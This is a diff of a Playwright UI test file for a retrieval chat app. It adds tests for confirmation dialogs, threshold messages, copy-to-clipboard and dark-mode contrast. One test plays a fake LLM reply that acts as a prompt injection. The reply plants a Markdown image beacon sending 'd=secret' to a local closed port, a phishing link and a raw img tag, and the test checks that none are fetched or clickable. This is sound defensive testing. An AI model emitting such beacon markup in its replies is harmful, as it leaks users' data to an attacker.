@@ -11,11 +11,11 @@ from pathlib import Path
 
 import pytest
 
-from tests.fake_llm_server import fake_llm  # noqa: F401
-from tests.ui_app_fixture import llm_ui_server, start_server, ui_docs, ui_server  # noqa: F401
+from tests.fake_llm_server import Reply
+from tests.ui_app_fixture import llm_ui_server, start_server, write_eval_run
 
 CHROMIUM = os.environ.get("RAG_CHROMIUM", "/usr/bin/chromium")
-SHOTS = Path(__file__).resolve().parent.parent / "test-output" / "screenshots"
+SHOTS = Path(os.environ.get("RAG_SHOTS", Path(__file__).resolve().parent.parent / "test-output" / "screenshots"))
 LAPTOPS = "How many laptops were delivered on January 23, 2023?"
 TIMEOUT_MS = 240_000  # the machine is shared; a first answer includes model warm-up
 
@@ -137,7 +137,8 @@ def test_upload_a_file_and_see_it_indexed(page, ui_server, tmp_path):
     files = page.locator("#files")
     assert "note.txt" in files.inner_text()
     stored = Path(ui_server.settings.upload_dir).resolve()
-    assert [p.name for p in stored.iterdir()] == ["note.txt"]
+    # stored under a fresh folder of its own (same-named uploads never replace each other)
+    assert [p.relative_to(stored).parts[1:] for p in stored.rglob("*") if p.is_file()] == [("note.txt",)]
     _shot(page, "documents")
 
     # the new file answers questions at once
@@ -203,4 +204,195 @@ def test_abstention_is_shown_with_related_passages(page, ui_server, fake_llm):
         assert page.locator("#chat .rag-cite").count() == 0
         _shot(page, "abstention")
     finally:
+        server.demo.close()
+
+
+# --------------------------------------------------------------------------------------------------
+# Issue 14 #5 and issue 17: nothing fetched without a click, confirmation, dark mode, messages, copy
+# --------------------------------------------------------------------------------------------------
+
+BEACON = "127.0.0.1:9"  # a closed port: a request there is recorded by the page even though it fails
+CONTRAST_JS = """(sel) => {
+  const el = document.querySelector(sel);
+  if (!el) return null;
+  const rgb = (c) => (c.match(/[\\d.]+/g) || []).map(Number);
+  const lum = (c) => { const v = rgb(c).slice(0, 3).map((x) => { x /= 255;
+    return x <= 0.03928 ? x / 12.92 : Math.pow((x + 0.055) / 1.055, 2.4); });
+    return 0.2126 * v[0] + 0.7152 * v[1] + 0.0722 * v[2]; };
+  let bg = null;
+  for (let node = el; node; node = node.parentElement) {
+    const c = getComputedStyle(node).backgroundColor; const a = rgb(c);
+    if (a.length && (a.length < 4 || a[3] > 0.5)) { bg = c; break; }
+  }
+  bg = bg || 'rgb(255, 255, 255)';
+  const fg = getComputedStyle(el).color;
+  const [l1, l2] = [lum(fg), lum(bg)].sort((x, y) => y - x);
+  return {ratio: (l1 + 0.05) / (l2 + 0.05), fg, bg};
+}"""
+
+
+def test_planted_images_and_links_are_never_fetched_or_clickable(page, ui_server, fake_llm):
+    """#5: an LLM reply (prompt injection) with a Markdown image, link, raw <img> and URL, while streaming."""
+    planted = (f"200 laptops were delivered [1]. ![x](http://{BEACON}/beacon?d=secret) "
+               f"[click](http://{BEACON}/phish) <img src=\"http://{BEACON}/beacon2\"> http://{BEACON}/raw")
+    fake_llm.script(Reply(planted, token_delay_s=0.05))
+    server = llm_ui_server(ui_server, fake_llm)
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+    try:
+        _open(page, server.url)
+        page.evaluate("""() => { window.__snapshots = [];
+            new MutationObserver(() => { const t = document.querySelector('#chat').innerText;
+              if (t.includes('▍')) window.__snapshots.push(t); })
+            .observe(document.querySelector('#chat'), {subtree: true, childList: true, characterData: true}); }""")
+        _ask(page, LAPTOPS)
+        page.locator("#chat .rag-cite").first.wait_for(state="visible", timeout=TIMEOUT_MS)
+        page.wait_for_timeout(500)
+        chat = page.locator("#chat")
+        assert not [u for u in requests if BEACON in u], requests
+        assert chat.locator(f"img[src*='{BEACON}']").count() == 0
+        assert chat.locator("a[href*='phish'], a[href*='raw']").count() == 0
+        # while streaming, the planted markup was shown as text (strict citations then drop the sentence)
+        assert any("![x](http://" in t and "[click](http://" in t for t in page.evaluate("window.__snapshots"))
+        assert chat.locator(".rag-cite").count() == 1  # the product's own citation still works
+    finally:
+        server.demo.close()
+
+
+def test_remove_asks_for_confirmation_and_is_not_prefilled(page, ui_server, tmp_path):
+    """Issue 17: the Remove dropdown came pre-filled and one click deleted a file."""
+    doomed = tmp_path / "doomed-note.txt"
+    doomed.write_text("The doomed note mentions 5 red kites over the hill.\n", encoding="utf-8")
+    ui_server.pipeline.ingest([str(doomed)], acl=["public"], progress=False)
+    _open(page, ui_server.url)
+    page.get_by_role("tab", name="Documents").click()
+    page.wait_for_function("() => document.querySelector('#files').innerText.includes('doomed-note.txt')")
+    choice = page.locator("#remove-choice input")
+    assert choice.input_value() == ""
+    page.locator("#remove-btn").click()  # nothing chosen: nothing happens
+    assert page.locator("#remove-confirm").is_hidden()
+    choice.click()
+    page.get_by_role("option", name=str(doomed)).click()
+    page.locator("#remove-btn").click()
+    confirm = page.locator("#remove-confirm")
+    confirm.wait_for(state="visible")
+    assert "doomed-note.txt" in confirm.inner_text()
+    _shot(page, "remove-confirm")
+    page.locator("#remove-cancel-btn").click()
+    confirm.wait_for(state="hidden")
+    assert any(f["file_path"] == str(doomed) for f in ui_server.pipeline.list_files())
+    page.locator("#remove-btn").click()
+    confirm.wait_for(state="visible")
+    page.locator("#remove-confirm-btn").click()
+    page.wait_for_function("() => document.querySelector('#ingest-status').innerText.includes('Removed')",
+                           timeout=TIMEOUT_MS)
+    assert not any(f["file_path"] == str(doomed) for f in ui_server.pipeline.list_files())
+
+
+def test_invalid_threshold_shows_a_message(page, ui_server):
+    """Issue 17: an invalid evidence threshold showed nothing in the browser."""
+    _open(page, ui_server.url)
+    page.get_by_text("Settings (this session)").click()
+    box = page.locator("#min-score textarea, #min-score input").first
+    box.fill("abc")
+    box.press("Enter")
+    message = page.locator("#threshold-msg")
+    page.wait_for_function("() => document.querySelector('#threshold-msg').innerText.includes('not a number')")
+    assert "previous threshold" in message.inner_text()
+
+
+def test_copy_button_copies_markdown_with_sources(browser, ui_server):
+    """Issue 17: the copy button copied raw <button class="rag-cite"> HTML and no sources."""
+    context = browser.new_context(viewport={"width": 1440, "height": 1000})
+    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=ui_server.url.rstrip("/"))
+    page = context.new_page()
+    try:
+        _open(page, ui_server.url)
+        _ask(page, LAPTOPS)
+        page.locator("#chat .rag-cite").first.wait_for(state="visible", timeout=TIMEOUT_MS)
+        page.locator("#chat .rag-copy").last.click()
+        copied = page.evaluate("navigator.clipboard.readText()")
+        assert "200 laptops" in copied and "Sources:" in copied and "fake-memo.pdf" in copied
+        assert "<button" not in copied and "rag-cite" not in copied
+    finally:
+        context.close()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("size", [(1440, 900), (390, 844)], ids=["1440x900", "390x844"])
+def test_evidence_and_abstention_are_readable_in_light_and_dark(browser, ui_server, fake_llm, scheme, size):
+    """Issue 17: in dark mode evidence cards and the abstention banner were white boxes with near-white text."""
+    width, height = size
+    context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
+    page = context.new_page()
+    page.set_default_timeout(60_000)
+    try:
+        _open(page, ui_server.url)
+        _ask(page, LAPTOPS)
+        page.locator("#chat .rag-cite").first.wait_for(state="visible", timeout=TIMEOUT_MS)
+        page.locator("#evidence .rag-ev-text").first.wait_for(state="attached")
+        for sel in ("#evidence .rag-ev-text", "#evidence .rag-ev-text mark", "#evidence .rag-ev-scores",
+                    "#chat .rag-cite"):
+            result = page.evaluate(CONTRAST_JS, sel)
+            assert result and result["ratio"] >= 4.5, (scheme, sel, result)
+        tabs = page.get_by_role("tab").all_inner_texts()
+        assert [t.strip() for t in tabs] == ["Chat", "Documents", "Eval", "Explore"], tabs
+        _shot(page, f"chat-{scheme}-{width}x{height}")
+    finally:
+        context.close()
+    fake_llm.responder = lambda body: "INSUFFICIENT_EVIDENCE"
+    server = llm_ui_server(ui_server, fake_llm)
+    context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
+    page = context.new_page()
+    page.set_default_timeout(60_000)
+    try:
+        _open(page, server.url)
+        _ask(page, "Who won the 1890 regatta on the river Thames?")
+        page.locator("#chat .rag-abstain").first.wait_for(state="visible", timeout=TIMEOUT_MS)
+        for sel in ("#chat .rag-abstain", "#evidence .rag-abstain", "#evidence .rag-ev-text"):
+            result = page.evaluate(CONTRAST_JS, sel)
+            assert result and result["ratio"] >= 4.5, (scheme, sel, result)
+        _shot(page, f"abstention-{scheme}-{width}x{height}")
+    finally:
+        context.close()
+        server.demo.close()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("size", [(1440, 900), (390, 844)], ids=["1440x900", "390x844"])
+def test_documents_eval_and_explore_tabs_in_light_and_dark(browser, ui_server, tmp_path, scheme, size):
+    """Every tab at desktop and phone width, both themes: folder ingest explains how to enable it, the Eval
+    tab lists and opens a run under its roots (plot shown whole, no remote image), Explore plots."""
+    write_eval_run(tmp_path / "results" / "run1")
+    server = start_server(ui_server.settings, None, pipeline=ui_server.pipeline, eval_roots=[tmp_path / "results"])
+    width, height = size
+    context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
+    page = context.new_page()
+    page.set_default_timeout(60_000)
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+    name = f"{scheme}-{width}x{height}"
+    try:
+        _open(page, server.url)
+        page.get_by_role("tab", name="Documents").click()
+        page.wait_for_function("() => document.querySelector('#files').innerText.includes('fake-memo.pdf')")
+        assert "rag ui --ingest-root DIR" in page.locator("#folder-disabled").inner_text()
+        _shot(page, f"documents-{name}")
+        page.get_by_role("tab", name="Eval").click()
+        page.locator("#eval-run input").click()
+        page.get_by_role("option", name=str(tmp_path / "results" / "run1")).click()
+        page.locator("#eval-open").click()
+        page.wait_for_function("() => document.querySelector('#eval-report').innerText.includes('0.61')")
+        page.locator("#eval-plots img").first.wait_for(state="visible")
+        assert "shown below" in page.locator("#eval-report").inner_text()
+        _shot(page, f"eval-{name}")
+        page.get_by_role("tab", name="Explore").click()
+        page.get_by_role("button", name="Plot").click()
+        page.get_by_text("chunks. Clusters").first.wait_for(state="visible", timeout=TIMEOUT_MS)
+        _shot(page, f"explore-{name}")
+        assert not [u for u in requests if BEACON in u], requests
+    finally:
+        context.close()
         server.demo.close()
